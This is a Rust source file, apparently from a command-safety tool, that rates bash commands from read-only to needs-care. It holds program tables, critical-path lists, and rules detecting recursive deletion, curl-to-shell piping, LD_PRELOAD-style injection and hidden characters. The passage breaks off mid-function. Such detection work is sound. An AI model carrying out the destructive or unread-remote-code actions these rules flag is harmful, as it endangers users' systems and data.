// SPDX-License-Identifier: GPL-2.0-only OR MIT

//! How dangerous a command is, judged on its syntax tree.
//!
//! A command is as dangerous as the worst that any part of it does. What a program is told decides, not only its
//! name; what cannot be known before it runs counts as the worst that it may be.

use std::ops::Range;
use std::path::{Path, PathBuf};

use serde::Serialize;

use super::syntax::{self, By, Call, Redirect, Word};
use super::{Context, Reason};

mod programs;

/// What a command may do to the machine, the worst last.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum Danger {
    /// It looks, and changes nothing.
    ReadOnly,
    /// It changes files of the user in a way that is easily seen and put right.
    ChangesFiles,
    /// Nothing is known about a program that it runs.
    Unknown,
    /// It changes the system: services, packages, users, networks, processes.
    ChangesSystem,
    /// It may destroy what cannot be had back, stop the machine, or run what nobody has read.
    NeedsCare,
}

impl Danger {
    /// All classes, the worst last.
    pub const ALL: [Self; 5] = [
        Self::ReadOnly,
        Self::ChangesFiles,
        Self::Unknown,
        Self::ChangesSystem,
        Self::NeedsCare,
    ];

    /// Its name, for instance `changes-files`.
    pub fn name(self) -> &'static str {
        match self {
            Self::ReadOnly => "read-only",
            Self::ChangesFiles => "changes-files",
            Self::Unknown => "unknown",
            Self::ChangesSystem => "changes-system",
            Self::NeedsCare => "needs-care",
        }
    }
}

impl std::fmt::Display for Danger {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.pad(self.name())
    }
}

/// How dangerous a command is, and why.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Judgement {
    /// The worst of the reasons, or [`Danger::ReadOnly`] if there is none.
    pub danger: Danger,
    /// Why, the worst first, and else in the order of the command.
    pub reasons: Vec<Reason>,
}

/// Judges a command by nothing but its text.
pub fn judge(command: &str) -> Judgement {
    Judge::new(command, None).judge()
}

/// Judges a command in its surroundings: overwriting a file that exists is worse than making one.
pub fn judge_in(context: &Context, command: &str) -> Judgement {
    Judge::new(command, Some(context)).judge()
}

use Danger::{ChangesFiles, ChangesSystem, NeedsCare, ReadOnly, Unknown};

/// What one call does: the class and the reason.
type Effect = (Danger, &'static str);

/// Programs that only look and tell.
#[rustfmt::skip]
const LOOKING: &[&str] = &[
    "[", "[[", ":", "acpi", "apropos", "apt-cache", "arch", "aspell", "awk", "b2sum", "base32", "base64",
    "basename", "basenc", "bat", "bc", "bg", "blkid", "bmon", "break", "btop", "bzcat", "bzgrep", "bzless", "cal",
    "case", "cat", "cd", "checkupdates", "cksum", "clear", "cloc", "cmp", "col", "colordiff", "column", "comm",
    "compgen", "complete", "continue", "coredumpctl", "cut", "dc", "declare", "df", "diff", "diff3", "dig",
    "dir", "dircolors", "dirname", "dirs", "disown", "dmidecode", "do", "done", "dpkg-query", "du", "duf",
    "dust", "echo", "egrep", "emulate", "enable", "expac", "exa", "exit", "expand", "export", "expr", "eza", "factor",
    "false", "fastfetch", "fc", "fd", "fdfind", "fg", "fgrep", "ffprobe", "file", "filefrag", "find", "findmnt",
    "fmt", "fold", "free", "fuser", "fzf", "getconf", "getent", "getfacl", "getfattr", "getopts", 
    "glances", "glow", "grep", "groups", "hash", "head", "help", "hexdump", "hexyl", "host",
    "hostid", "htop", "iconv", "id", "identify", "iftop", "info", "ionice", "iostat",
    "iotop", "ipcalc", "ipcs", "iperf3", "jobs", "join", "jq", "last", "lastb", "lastlog", "ldd",
    "less", "let", "lesspipe", "local", "locale", "locate", "logname", "look", "ls", "lsattr", "lsb_release",
    "lsblk", "lscpu", "lsd", "lshw", "lsinitrd", "lsipc", "lslocks", "lslogins", "lsmem", "lsmod", "lsns",
    "lsof", "lspci", "lsusb", "lzcat", "man", "manpath", "mapfile", "md5sum", "mediainfo", "mesg", "modinfo",
    "more", "mountpoint", "mpstat", "mtr", "namei", "ncal", "ncdu", "neofetch", "netstat", "nethogs", "nl",
    "nm", "nproc", "nslookup", "nstat", "numfmt", "objdump", "od", "pactree", "pacsearch", "paste", "pathchk",
    "pdfgrep", "pdfinfo", "pgrep", "pidof", "pidstat", "pidwait", "ping", "ping6", "plocate", "pmap", "popd",
    "powertop", "pr", "printenv", "printf", "prlimit", "ps", "pstree", "ptx", "pushd", "pwd", "pwdx", "read",
    "readarray", "readelf", "readlink", "readonly", "realpath", "return", "rev", "rg", "sar", "sed", "select",
    "sensors", "seq", "set", "sha1sum", "sha224sum", "sha256sum", "sha384sum", "sha512sum", "shasum",
    "shellcheck", "shift", "shopt", "shuf", "size", "slabtop", "sleep", "sort", "ss", "stat", "strings",
    "stty", "suspend", "sum", "systemd-analyze", "systemd-cgls", "systemd-cgtop", "systemd-detect-virt",
    "systemd-escape", "systemd-path", "tac", "tail", "test", "tload", "time", "times", "top", "tr",
    "tracepath", "traceroute", "tree", "true", "tsort", "tty", "type", "typeset", "tzselect", "ulimit", "umask",
    "unalias", "uname", "unexpand", "uniq", "units", "unset", "uptime", "users", "vdir", "vdpauinfo",
    "vmstat", "vulkaninfo", "w", "wait", "wc", "whatis", "whereis", "which", "who", "whoami", "whois",
    "xxd", "xzcat", "xzgrep", "yes", "yq", "zcat", "zdiff", "zgrep", "zless", "zmore", "zstdcat", "zstdgrep",
    "glxinfo", "inxi", "nvtop", "nvidia-smi", "lsscsi", "smartctl", "tldr", "vainfo",
    "xdpyinfo", "numactl", "cpuid", "x86info", "pv", "nmap", "tokei", "hyperfine", "alias",
    "xargs", "watch", "sudo", "env", "nice", "nohup", "setsid", "stdbuf", "timeout", 
    "flock", "command", "builtin", "exec", "coproc", "trap", "parallel", "dbus-run-session", "zipinfo",
    "xdg-open", "open", "wl-paste", "cowsay", "figlet", "lolcat", "qalc", "toilet", "fortune", "banner",
];

/// Programs that make or change files of the user, where they are told to.
#[rustfmt::skip]
const CHANGING_FILES: &[&str] = &[
    "ar", "aria2c", "bzip2", "bunzip2", "cargo", "chattr", "cjpeg", "compress", "convert", "cp", "csplit",
    "ctags", "cwebp", "desktop-file-install", "dos2unix", "dwebp", "ed", "emacs", "ex", "exiftool", "ffmpeg",
    "flac", "gcc", "g++", "cc", "clang", "gimp", "gpg", "gpg2", "gs", "gunzip", "gzip", "helix", "hx", "img2pdf",
    "inkscape", "install", "jpegoptim", "kate", "lame", "latexmk", "ld", "ln", "lz4", "lzma", "magick", "micro",
    "mkdir", "mkfifo", "mkisofs", "genisoimage", "mktemp", "mogrify", "montage", "msgfmt", "mv", "nano", "ncftpget",
    "nvim", "oggenc", "opusenc", "optipng", "pandoc", "patch", "pax", "pdfjam", "pdfseparate", "pdftk",
    "pdftocairo", "pdftoppm", "pdftotext", "pdfunite", "pdflatex", "pngquant", "qpdf", "rename", "prename",
    "rmdir", "rst2html", "rustc", "scp", "script", "setfacl", "setfattr", "sftp", "soffice", "libreoffice", "sox",
    "split", "sponge", "ssh-copy-id", "ssh-keygen", "ssh-keyscan", "strip", "tee", "touch", "unar", "unix2dos",
    "unlzma", "unrar", "unxz", "unzstd", "updatedb", "vi", "vim", "view", "vimdiff", "virtualenv", "wl-copy",
    "xclip", "xsel", "xz", "yt-dlp", "youtube-dl", "zip", "zipcloak", "zipnote", "zstd", "pigz", "pbzip2",
    "zsync", "cpio", "uuencode", "uudecode", "xdg-mime", "xdg-settings", "gsettings", "dconf", "notify-send",
    "ssh-add", "keytool", "mkcert", "logger", "wall", "write", "mail", "mailx", "sendmail", "scrot", "grim",
    "import", "arecord", "aplay", "mpv", "vlc", "cdparanoia", "wodim", "code", "subl", "gedit", "xdotool",
    "bzip3", "brotli", "makepkg", "mknod", "rsync", "telnet", "ftp", "lftp", "nc", "ncat", "netcat", "socat",
];

/// Programs that change the system.
#[rustfmt::skip]
const CHANGING_SYSTEM: &[&str] = &[
    "a2enmod", "a2ensite", "add-apt-repository", "adduser", "addgroup", "alsactl", "amixer", "apparmor_parser",
    "aa-complain", "aa-enforce", "arch-chroot", "autofs", "bluetoothctl", "brightnessctl", "chage", "chcpu",
    "chfn", "chpasswd", "chroot", "chsh", "chvt", "cpupower", "debconf-set-selections", "depmod", "dhclient",
    "dhcpcd", "dpkg-reconfigure", "dracut", "e2label", "eject", "ethtool", "exportfs", "fsck", "e2fsck",
    "xfs_repair", "fstrim", "genfstab", "gpasswd", "groupadd", "groupmod", "grub-mkconfig", "grub2-mkconfig",
    "hwclock", "insmod", "iw", "iwctl", "iwconfig", "kexec", "ldconfig", "locale-gen", "localectl", "loadkeys",
    "losetup", "lvcreate", "lvextend", "lvrename", "logrotate", "makemap", "mdadm", "mkinitcpio", "modprobe",
    "mkinitramfs", "netplan", "newgrp", "newusers", "nscd", "ntpdate", "nsenter", "pacman-key", "pactl",
    "pam-auth-update", "partprobe", "passwd", "pivot_root", "powerprofilesctl", "pppd", "pvcreate", "pwconv",
    "quotacheck", "quotaon", "reflector", "renice", "chrt", "restorecon", "rfkill", "rmmod", "rpc.nfsd",
    "semanage", "sensors-detect", "service", "setcap", "setenforce", "setfont", "setsebool", "swapon", "su",
    "swaplabel", "switch_root", "sync", "sysctl", "systemd-tmpfiles", "systemd-sysusers", "taskset", "tc",
    "timedatectl", "tune2fs", "udevadm", "umount", "unshare", "update-alternatives", "update-ca-certificates",
    "update-grub", "update-initramfs", "update-locale", "update-rc.d", "useradd", "usermod", "vgcreate",
    "vgextend", "visudo", "vipw", "wg", "wg-quick", "wpa_supplicant", "xrandr", "zramctl", "xinput", "setxkbmap",
    "setpriv", "systemd-run", "sudoedit", "start-stop-daemon", "chronyc", "ntpq", "iwlist", "ifup", "sysstat",
    "hciconfig", "tailscale", "xfs_growfs", "btrfstune", "mount.nfs", "cryptdisks_start", "timeshift", "tlp",
    "auto-cpufreq", "fwupdmgr", "pw-cli", "wpctl",
];

/// Programs that are not to be run without a thought, whatever they are told.
#[rustfmt::skip]
const NEEDING_CARE: &[(&str, &str)] = &[
    ("shutdown", "stops the machine"), ("reboot", "restarts the machine"), ("poweroff", "stops the machine"),
    ("halt", "stops the machine"), ("init", "changes what the whole machine does"),
    ("telinit", "changes what the whole machine does"), ("shred", "destroys what is in files"),
    ("wipe", "destroys what is in files"), ("srm", "destroys what is in files"),
    ("mkswap", "destroys what is on a device"), ("blkdiscard", "destroys what is on a device"),
    ("lvremove", "destroys a volume"), ("vgremove", "destroys volumes"), ("pvremove", "destroys volumes"),
    ("lvreduce", "makes a volume smaller, and what is in it may be lost"),
    ("resize2fs", "changes the size of a file system"), ("btrfs-convert", "changes a file system in place"),
    ("userdel", "deletes a user"), ("deluser", "deletes a user"), ("groupdel", "deletes a group"),
    ("delgroup", "deletes a group"), ("grub-install", "writes the boot loader"),
    ("grub2-install", "writes the boot loader"), ("debugfs", "changes a file system below the kernel"),
    ("eval", "runs what it is given as a script"), ("at", "runs later what it is given"),
    ("batch", "runs later what it is given"), ("dropdb", "deletes a database"), ("killall5", "ends all processes"),
    ("iptables-restore", "replaces the firewall's rules"), ("sgdisk", "changes partitions"),
    ("gparted", "changes partitions"), ("cfdisk", "changes partitions"),
    ("gdisk", "changes partitions"), ("testdisk", "changes partitions"), ("swapoff", "takes swap away"),
    ("truncate", "cuts or stretches files"), ("flashrom", "writes firmware"), ("ifdown", "takes a network down"),
];

/// Languages: what they are given may do anything.
#[rustfmt::skip]
const LANGUAGES: &[&str] = &[
    "python", "python2", "python3", "perl", "ruby", "node", "nodejs", "deno", "bun", "lua", "luajit", "php",
    "tclsh", "wish", "guile", "osascript", "irb", "ipython", "Rscript", "julia", "expect", "gdb", "jshell",
];

/// What a text in another language says when it deletes or runs something.
#[rustfmt::skip]
const VIOLENT: &[&str] = &[
    "system", "exec", "popen", "subprocess", "unlink", "rmtree", "rmdir", "remove", "os.kill", "spawn", "rm -",
    "delete", "truncate", "__import__", "eval", "b64decode", "`",
];

/// Places whose loss is the loss of the machine or of all that a user has.
#[rustfmt::skip]
const CRITICAL: &[&str] = &[
    "/", "/*", "/.", "/..", "~", "~/", "~/*", ".", "./", "..", "../", "*", "./*", ".*", "/bin", "/boot", "/dev", "/etc",
    "/home", "/lib", "/lib64", "/opt", "/proc", "/root", "/run", "/sbin", "/srv", "/sys", "/usr", "/var", "/mnt",
    "/media", "$HOME", "${HOME}", "$HOME/", "$PWD", "/usr/bin", "/usr/lib", "/usr/share", "/var/lib", "/var/log",
];

/// Directories of the system, whose files are not the user's.
#[rustfmt::skip]
const SYSTEM_PATHS: &[&str] = &[
    "/bin/", "/boot/", "/etc/", "/lib/", "/lib64/", "/opt/", "/root/", "/sbin/", "/usr/", "/var/", "/srv/",
];

struct Judge<'j> {
    text: &'j str,
    context: Option<&'j Context>,
    reasons: Vec<Reason>,
}

/// What a program was told.
#[derive(Clone, Copy)]
struct Told<'t>(&'t [Word]);

impl<'t> Told<'t> {
    /// Its options: what begins with `-`, up to `--`.
    fn options(self) -> impl Iterator<Item = &'t str> {
        self.0
            .iter()
            .map(|word| word.text.as_str())
            .take_while(|text| *text != "--")
            .filter(|text| text.starts_with('-') && *text != "-")
    }

    /// What is no option.
    fn operands(self) -> impl Iterator<Item = &'t Word> + Clone {
        let end = self.0.iter().position(|word| word.text == "--");
        self.0.iter().enumerate().filter_map(move |(at, word)| {
            let behind = end.is_some_and(|end| at > end);
            let option = word.text.starts_with('-') && word.text != "-";
            (behind || !option).then_some(word)
        })
    }

    /// Whether a short option is among them, alone or with others.
    fn short(self, letter: char) -> bool {
        self.options()
            .any(|option| !option.starts_with("--") && option.contains(letter))
    }

    /// Whether a long option is among them, perhaps shortened.
    fn long(self, name: &str) -> bool {
        self.options().any(|option| {
            option.strip_prefix("--").is_some_and(|option| {
                let option = option.split('=').next().unwrap_or_default();
                !option.is_empty() && name.starts_with(option)
            })
        })
    }

    fn has(self, short: char, long: &str) -> bool {
        self.short(short) || self.long(long)
    }

    /// Whether a word is among them.
    fn says(self, texts: &[&str]) -> bool {
        self.0
            .iter()
            .any(|word| texts.contains(&word.text.as_str()))
    }

    /// The first operand, as programs with subcommands have it.
    fn verb(self) -> &'t str {
        self.operands().next().map_or("", |word| word.text.as_str())
    }

    /// The operand after the first.
    fn second(self) -> &'t str {
        self.operands().nth(1).map_or("", |word| word.text.as_str())
    }

    /// The last operand.
    fn last(self) -> Option<&'t Word> {
        self.operands().last()
    }

    /// Whether any of it is only known when it runs.
    fn computed(self) -> bool {
        self.0.iter().any(|word| !word.known)
    }
}

impl<'j> Judge<'j> {
    fn new(text: &'j str, context: Option<&'j Context>) -> Self {
        Self {
            text,
            context,
            reasons: vec![],
        }
    }

    fn add(&mut self, span: &Range<usize>, danger: Danger, what: impl Into<String>) {
        let reason = Reason {
            span: span.clone(),
            what: what.into(),
            danger,
        };
        if danger > ReadOnly && !self.reasons.contains(&reason) {
            self.reasons.push(reason);
        }
    }

    fn judge(mut self) -> Judgement {
        let script = syntax::parse(self.text);
        for (span, what) in &script.errors {
            self.add(
                span,
                NeedsCare,
                format!("bash would not understand it: {what}"),
            );
        }
        if let Some((at, _)) = self.text.char_indices().find(|(_, c)| hides(*c)) {
            let span = at..self.text.len();
            self.add(&span, NeedsCare, "has characters that are not seen");
        }
        for (name, span, recursive) in &script.functions {
            if *recursive {
                let what = format!("{name} starts itself, perhaps without end");
                self.add(span, NeedsCare, what);
            }
        }
        for (name, _) in &script.variables {
            let whole = 0..self.text.len();
            match name.as_str() {
                "LD_PRELOAD" | "LD_AUDIT" | "LD_LIBRARY_PATH" | "BASH_ENV" | "ENV"
                | "PROMPT_COMMAND" | "GIT_SSH_COMMAND" | "PERL5OPT" | "PYTHONSTARTUP" => {
                    let what = format!("{name} decides which code runs");
                    self.add(&whole, NeedsCare, what);
                }
                "PATH" | "IFS" => {
                    let what = format!("changes {name}, which decides what later commands do");
                    self.add(&whole, ChangesFiles, what);
                }
                _ => {}
            }
        }
        for call in &script.calls {
            self.call(call, &script);
        }
        self.reasons
            .sort_by_key(|reason| (std::cmp::Reverse(reason.danger), reason.span.start));
        let danger = self
            .reasons
            .first()
            .map_or(ReadOnly, |reason| reason.danger);
        Judgement {
            danger,
            reasons: self.reasons,
        }
    }

    fn call(&mut self, call: &Call, script: &syntax::Script) {
        for redirect in &call.redirects {
            self.redirect(redirect, call.privileged);
        }
        let Some(first) = call.words.first() else {
            return;
        };
        let Some(name) = call.name() else {
            let what = "which program runs is only known when it runs";
            self.add(&first.span, NeedsCare, what);
            return;
        };
        let defined = script.functions.iter().any(|(defined, ..)| defined == name);
        if defined && !first.text.contains('/') {
            return;
        }
        let (danger, what) = self.program(name, call, script);
        match danger {
            ChangesFiles if call.privileged => self.add(&call.span, ChangesSystem, what),
            Unknown if call.privileged => {
                self.add(&call.span, NeedsCare, format!("{what}, as root"));
            }
            _ => self.add(&call.span, danger, what),
        }
    }

    fn redirect(&mut self, redirect: &Redirect, privileged: bool) {
        let operator = redirect.operator.as_str();
        let target = &redirect.target;
        let writes = operator.contains('>');
        let descriptor = operator.ends_with('&')
            && (target.text == "-" || target.text.chars().all(|c| c.is_ascii_digit()));
        if !writes || descriptor {
            return;
        }
        let appends = operator.contains(">>");
        let (danger, what) = self.written(target, appends, privileged);
        self.add(&target.span, danger, what);
    }

    /// What writing a file is.
    fn written(&self, target: &Word, appends: bool, privileged: bool) -> (Danger, String) {
        let text = target.text.as_str();
        if !target.known || target.pattern {
            return match self.home_path(text) {
                Some(path) if path.exists() && !appends => {
                    (NeedsCare, format!("overwrites {text}, which exists"))
                }
                Some(_) => (ChangesFiles, format!("writes {text}")),
                None => (
                    ChangesFiles,
                    "writes a file whose name is only known when it runs".into(),
                ),
            };
        }
        let (danger, what) = match place(text) {
            Place::Nothing => (ReadOnly, String::new()),
            Place::Device => (NeedsCare, format!("writes to the device {text}")),
            Place::Kernel => (
                ChangesSystem,
                format!("changes a setting of the kernel, {text}"),
            ),
            Place::System if appends => (ChangesSystem, format!("adds to {text}")),
            Place::System => (
                NeedsCare,
                format!("overwrites {text}, a file of the system"),
            ),
            Place::Login => (
                if appends { ChangesSystem } else { NeedsCare },
                format!("changes {text}, which decides who may log in or what runs then"),
            ),
            Place::User if appends => (ChangesFiles, format!("adds to {text}")),
            Place::User if self.exists(text) => {
                (NeedsCare, format!("overwrites {text}, which exists"))
            }
            Place::User if self.context.is_some() => (ChangesFiles, format!("makes {text}")),
            Place::User => (ChangesFiles, format!("makes or overwrites {text}")),
        };
        if privileged && danger == ChangesFiles {
            return (ChangesSystem, what);
        }
        (danger, what)
    }

    /// What `$HOME/...` and `~/...` stand for.
    fn home_path(&self, text: &str) -> Option<PathBuf> {
        let home = self.context?.home.as_ref()?;
        ["~/", "$HOME/", "${HOME}/"]
            .iter()
            .find_map(|prefix| text.strip_prefix(prefix))
            .map(|rest| home.join(rest))
    }

    fn exists(&self, text: &str) -> bool {
        let Some(context) = self.context else {
            return false;
        };
        match self.home_path(text) {
            Some(path) => path.exists(),
            None => context.cwd.join(text).exists(),
        }
    }

    /// What a program does that is told these words.
    fn program(&mut self, name: &str, call: &Call, script: &syntax::Script) -> Effect {
        let told = Told(call.operands());
        let many = call.by == By::Many;
        if told.says(&["--help", "--version"]) && known(name) {
            return (ReadOnly, "");
        }
        if name == "eval" {
            return (NeedsCare, "runs what it is given as a script");
        }
        if name == "ssh" && !call.starts_others {
            return (Unknown, "logs in at another machine");
        }
        if name.contains('!') && name != "!" {
            return (NeedsCare, "runs a command of the history again");
        }
        if let Some(effect) = deleting(name, told, call) {
            return effect;
        }
        if let Some(effect) = self.writing(name, told, call) {
            return effect;
        }
        if syntax::SHELLS.contains(&name) || name == "source" || name == "." {
            return shell(name, told, call, script);
        }
        if LANGUAGES.contains(&name) || name.starts_with("python3.") {
            return language(told, call);
        }
        if let Some(effect) = programs::effect(name, told, many) {
            return effect;
        }
        if call.starts_others && first_name(call) != "find" {
            return (ReadOnly, "");
        }
        if let Some((_, what)) = NEEDING_CARE.iter().find(|(care, _)| *care == name) {
            return (NeedsCare, what);
        }
        if first_name(call).starts_with('/') && !in_system_path(first_name(call)) {
            return (Unknown, "runs a program about which nothing is known");
        }
        if first_name(call).contains('/') && !first_name(call).starts_with('/') {
            return (Unknown, "runs a program about which nothing is known");
        }
        if CHANGING_SYSTEM.contains(&name) {
            return (ChangesSystem, "changes the system");
        }
        if CHANGING_FILES.contains(&name) {
            return (ChangesFiles, "makes or changes files");
        }
        if LOOKING.contains(&name) {
            return (ReadOnly, "");
        }
        (Unknown, "runs a program about which nothing is known")
    }

    /// Programs that write the files that they are told, as `cp` and `tee` do.
    fn writing(&mut self, name: &str, told: Told<'_>, call: &Call) -> Option<Effect> {
        let privileged = call.privileged;
        match name {
            "tee" | "sponge" => {
                let appends = told.has('a', "append");
                for target in told.operands() {
                    let (danger, what) = self.written(target, appends, privileged);
                    self.add(&target.span, danger, what);
                }
                Some((ReadOnly, ""))
            }
            "sort" | "shuf" | "curl" | "gcc" | "cc" | "g++" | "clang" | "openssl" | "gpg"
            | "yt-dlp" | "tcpdump" | "wget" | "pandoc" | "xmllint" | "hexdump" | "dig" => {
                let output: &[&str] = match name {
                    "openssl" => &["-out"],
                    "tcpdump" => &["-w"],
                    "wget" => &["-O", "--output-document"],
                    "hexdump" | "dig" => &[],
                    _ => &["-o", "--output"],
                };
                let mut words = told.0.iter();
                let mut found = false;
                while let Some(word) = words.next() {
                    let target = if output.contains(&word.text.as_str()) {
                        words.next().cloned()
                    } else {
                        output
                            .iter()
                            .filter(|option| option.starts_with("--"))
                            .find_map(|option| word.text.strip_prefix(*option)?.strip_prefix('='))
                            .map(|text| Word {
                                text: text.into(),
                                ..word.clone()
                            })
                    };
                    if let Some(target) = target.filter(|target| target.text != "-") {
                        found = true;
                        let (danger, what) = self.written(&target, false, privileged);
                        self.add(&target.span, danger, what);
                    }
                }
                // What else these are told, others look at.
                if found && matches!(name, "sort" | "shuf" | "openssl" | "xmllint" | "pandoc") {
                    return Some((ReadOnly, ""));
                }
                None
            }
            "cp" | "mv" | "install" | "ln" | "rsync" | "scp" => {
                let directory = told.0.iter().position(|word| word.text == "-t");
                let target = match directory {
                    Some(at) => told.0.get(at + 1),
                    None => told.last(),
                }?;
                let careful = told.has('n', "no-clobber")
                    || told.has('i', "interactive")
                    || told.has('b', "backup")
                    || name == "rsync"
                    || name == "scp";
                let sources = told.operands().filter(|word| *word != target);
                if name == "mv" {
                    for source in sources.clone() {
                        if critical(&source.text) {
                            return Some((NeedsCare, "moves a directory that must stay"));
                        }
                    }
                }
                if target.text == "/dev/null" && name == "mv" {
                    return Some((NeedsCare, "destroys what is moved there"));
                }
                if matches!(place(&target.text), Place::Device) && target.known {
                    return Some((NeedsCare, "writes to a device"));
                }
                if matches!(
                    place(&target.text),
                    Place::System | Place::Login | Place::Kernel
                ) {
                    return Some((ChangesSystem, "changes files of the system"));
                }
                if !careful && target.known && !target.pattern {
                    if let Some(existing) = self.overwritten(target, sources) {
                        let forces = name == "ln" && !told.has('f', "force");
                        if !forces {
                            let what = format!("overwrites {existing}, which exists");
                            self.add(&target.span, NeedsCare, what);
                        }
                    }
                }
                if name == "mv"
                    && told
                        .operands()
                        .any(|word| matches!(place(&word.text), Place::System | Place::Login))
                {
                    return Some((ChangesSystem, "moves files of the system"));
                }
                if name == "rsync"
                    && told
                        .options()
                        .any(|option| option.starts_with("--del") || option.starts_with("--remove"))
                {
                    return Some((NeedsCare, "deletes files that are not in both places"));
                }
                if name == "rsync"
                    && (told.short('e') || told.long("rsh") || told.long("rsync-path"))
                    && told.says(&["sh", "bash"])
                {
                    return Some((NeedsCare, "runs a command by the way"));
                }
                if name == "rsync" && told.has('n', "dry-run") {
                    return Some((ReadOnly, ""));
                }
                Some((
                    ChangesFiles,
                    match name {
                        "mv" => "moves files",
                        "ln" => "makes links",
                        _ => "copies files",
                    },
                ))
            }
            _ => None,
        }
    }

    /// The file that copying or moving to a place would overwrite.
    fn overwritten<'w>(
        &self,
        target: &Word,
        sources: impl Iterator<Item = &'w Word>,
    ) -> Option<String> {
        let context = self.context?;
        let at = match self.home_path(&target.text) {
            Some(path) => path,
            None => context.cwd.join(&target.text),
        };
        if at.is_dir() {
            return sources
                .filter(|source| source.known && !source.pattern)
                .filter_map(|source| Path::new(&source.text).file_name())
                .map(|name| at.join(name))
                .find(|path| path.exists())
                .map(|path| path.display().to_string());
        }
        at.exists().then(|| target.text.clone())
    }
}

fn first_name(call: &Call) -> &str {
    call.words.first().map_or("", |word| word.text.as_str())
}

fn in_system_path(path: &str) -> bool {
    [
        "/bin/",
        "/sbin/",
        "/usr/bin/",
        "/usr/sbin/",
        "/usr/local/bin/",
    ]
    .iter()
    .any(|directory| {
        path.strip_prefix(directory)
            .is_some_and(|rest| !rest.contains('/'))
    })
}

/// Whether a program is in one of the tables.
pub(super) fn known(name: &str) -> bool {
    LOOKING.contains(&name)
        || CHANGING_FILES.contains(&name)
        || CHANGING_SYSTEM.contains(&name)
        || matches!(
            name,
            "rm" | "git" | "tar" | "systemctl" | "journalctl" | "apt" | "apt-get" | "pacman"
        )
        || matches!(
            name,
            "ip" | "kill" | "dd" | "mount" | "docker" | "chmod" | "chown" | "wget" | "curl"
        )
}

/// Characters that a terminal does not show, or that turn what is around them.
fn hides(character: char) -> bool {
    (character.is_control() && character != '\n' && character != '\t')
        || matches!(character, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}')
}

fn critical(path: &str) -> bool {
    let short = path.trim_end_matches('/');
    CRITICAL.contains(&path)
        || CRITICAL.contains(&short)
        || path.starts_with("//")
        || path.contains("/../")
        || (path.starts_with('~') && !path.contains('/'))
        || path.ends_with("/*") && CRITICAL.contains(&path.trim_end_matches("/*"))
}

/// What is at a path, by its name.
enum Place {
    /// Nothing is kept there.
    Nothing,
    Device,
    Kernel,
    System,
    /// What decides who may log in, or runs when somebody does.
    Login,
    User,
}

fn place(path: &str) -> Place {
    match path {
        "/dev/null" | "/dev/stdout" | "/dev/stderr" | "/dev/tty" | "/dev/zero" | "/dev/full" => {
            return Place::Nothing
        }
        "/proc/sysrq-trigger" => return Place::Device,
        _ => {}
    }
    if path.starts_with("/dev/fd/") || path.starts_with("/dev/shm/") {
        return Place::User;
    }
    if path.starts_with("/dev/") {
        return Place::Device;
    }
    if path.starts_with("/proc/") || path.starts_with("/sys/") {
        return Place::Kernel;
    }
    // A path that climbs may end anywhere.
    if path.starts_with('/') && path.contains("/../") {
        return Place::System;
    }
    if path.starts_with("/var/tmp/") {
        return Place::User;
    }
    if SYSTEM_PATHS
        .iter()
        .any(|directory| path.starts_with(directory))
        || path == "/etc"
    {
        return Place::System;
    }
    let login = [
        ".ssh/",
        ".bashrc",
        ".bash_profile",
        ".profile",
        ".zshrc",
        ".zshenv",
        ".config/fish/config.fish",
        ".config/autostart",
        ".xinitrc",
    ];
    if login.iter().any(|name| path.contains(name)) {
        return Place::Login;
    }
    Place::User
}

/// `rm` and what else deletes.
fn deleting(name: &str, told: Told<'_>, call: &Call) -> Option<Effect> {
    match name {
        "rm" | "unlink" | "rmdir" | "trash" | "trash-put" | "gio" => {}
        "find" => {
            if told.says(&["-delete"]) {
                return Some((NeedsCare, "deletes all that it finds"));
            }
            let writes = ["-fprint", "-fprintf", "-fls", "-fprint0"];
            return Some(if told.says(&writes) {
                (ChangesFiles, "writes what it finds to a file")
            } else {
                (ReadOnly, "")
            });
        }
        "trash-empty" => return Some((NeedsCare, "deletes what was thrown away")),
        _ => return None,
    }
    if name == "gio" {
        return Some(match told.verb() {
            "trash" if told.has('e', "empty") => (NeedsCare, "deletes what was thrown away"),
            "remove" => (NeedsCare, "deletes files"),
            "info" | "list" | "cat" | "tree" | "mime" | "version" => (ReadOnly, ""),
            _ => (ChangesFiles, "changes files"),
        });
    }
    if name.starts_with("trash") {
        return Some((ChangesFiles, "throws files away, to be had back"));
    }
    if name == "rm" && (told.short('r') || told.short('R') || told.long("recursive")) {
        return Some((NeedsCare, "deletes directories with all that is in them"));
    }
    if told.operands().any(|word| critical(&word.text)) {
        return Some((NeedsCare, "deletes a place that must stay"));
    }
    if name == "rmdir" {
        return Some((ChangesFiles, "deletes empty directories"));
    }
    if told.computed() {
        return Some((
            NeedsCare,
            "deletes files whose names are only known when it runs",
        ));
    }
    if call.by == By::Many {
        return Some((
            NeedsCare,
            "deletes files whose names come from another command",
        ));
    }
    if told.operands().any(|word| word.pattern) {
        return Some((NeedsCare, "deletes all files of a pattern"));
    }
    let anothers = |word: &Word| !matches!(place(&word.text), Place::User | Place::Nothing);
    if call.privileged || told.operands().any(anothers) {
        return Some((NeedsCare, "deletes files of the system"));
    }
    Some((ChangesFiles, "deletes files"))
}

/// A shell that is started.
fn shell(name: &str, told: Told<'_>, call: &Call, script: &syntax::Script) -> Effect {
    if call.starts_others {
        return (ReadOnly, "");
    }
    if let Some(word) = told.operands().next().filter(|_| !told.says(&["-s"])) {
        if !word.known {
            return (NeedsCare, "runs a script that nobody has read");
        }
        if told.short('n') && name != "." && name != "source" {
            return (ReadOnly, "");
        }
        return (Unknown, "runs a script");
    }
    let from = call
        .reads
        .and_then(|at| script.calls.get(at))
        .and_then(Call::name);
    if matches!(from, Some("curl" | "wget")) {
        return (NeedsCare, "runs what comes from the network, unread");
    }
    if call.piped || call.by == By::Many {
        return (NeedsCare, "runs what it reads as a script");
    }
    (ReadOnly, "")
}

/// A program in another language.
fn language(told: Told<'_>, call: &Call) -> Effect {
    if let Some(at) = told.0.iter().position(|word| word.text == "-m") {
        match told.0.get(at + 1).map_or("", |word| word.text.as_str()) {
            "json.tool" | "http.server" | "this" | "timeit" | "calendar" | "site" | "base64"
            | "dis" => {
                return (ReadOnly, "");
            }
            "venv" | "zipfile" | "tarfile" | "compileall" => {
                return (ChangesFiles, "makes or changes files");
            }
